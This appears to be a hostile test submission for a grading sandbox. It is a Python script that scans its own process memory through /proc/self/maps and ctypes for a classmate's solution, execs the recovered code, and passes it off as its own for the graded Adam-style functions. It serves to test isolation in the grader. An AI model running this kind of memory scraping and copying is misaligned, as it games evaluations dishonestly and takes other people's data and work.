"""Hostile (issue 12, attack 1): copy a classmate's solution out of memory inherited from the sandbox.

Reads every writable region of its own address space through /proc/self/maps and ctypes.string_at (no
/proc/self/mem needed), looks for another submission's source, execs each candidate and keeps the first
that passes the page's public example. The grader must hand it nothing: no classmate's file or output
may be left in memory a fresh guest starts from.
"""
import ctypes
import re

OWN_TAG = "memory-scan-copy-" + "self"  # built at run time, so this file's own text never matches twice


def _regions():
    with open("/proc/self/maps") as maps:
        for line in maps:
            fields = line.split()
            if len(fields) >= 2 and fields[1].startswith("rw"):
                start, end = (int(x, 16) for x in fields[0].split("-"))
                yield start, end


def _candidates():
    needle = b"def " + b"bias_correct("
    for start, end in _regions():
        for offset in range(start, end, 1 << 24):
            try:
                chunk = ctypes.string_at(offset, min(1 << 24, end - offset))
            except Exception:
                continue
            for match in re.finditer(re.escape(needle), chunk):
                text = chunk[max(0, match.start() - 4000): match.start() + 4000]
                yield text.decode("utf-8", "ignore")


def _steal():
    for text in _candidates():
        if OWN_TAG in text or "memory-scan-copy" in text:
            continue
        for begin in range(len(text)):
            if not text.startswith(("import", "def", "from"), begin):
                continue
            namespace = {}
            try:
                exec(text[begin:], namespace)
                if abs(namespace["bias_correct"](0.000225, 1) - 0.225) < 1e-9:
                    return namespace
            except BaseException:
                continue
    return None


STOLEN = _steal()


def update_v(v_prev, g, beta2=0.999):
    if STOLEN is None:
        raise NotImplementedError("nothing to copy")
    return STOLEN["update_v"](v_prev, g, beta2)


def bias_correct(v, t, beta2=0.999):
    if STOLEN is None:
        raise NotImplementedError("nothing to copy")
    return STOLEN["bias_correct"](v, t, beta2)


def effective_step(v_hat, alpha=0.001, eps=1e-8):
    if STOLEN is None:
        raise NotImplementedError("nothing to copy")
    return STOLEN["effective_step"](v_hat, alpha, eps)
